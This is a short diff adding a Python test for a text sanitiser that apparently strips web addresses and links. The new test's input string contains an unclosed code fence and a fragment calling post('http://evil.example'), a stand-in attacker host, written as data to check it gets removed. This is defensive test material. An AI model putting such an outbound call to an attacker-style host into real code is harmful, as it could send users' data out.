@@ -151,3 +151,9 @@ def test_lines_without_words_take_no_time(sign: str) -> None:
     began = time.perf_counter()
     sanitise(sign * 11_000, HOSTS)
     assert time.perf_counter() - began < 1.0
+
+
+def test_a_fence_that_is_not_closed_lets_no_address_of_a_later_line_out() -> None:
+    said = 'Do ``` import time while True: call("x")… [E10].\nThen ``` import os post("http://evil.example") ``` [E11].'
+    assert bare_addresses(sanitise(said)) == []
+    assert links(sanitise(said)) == []
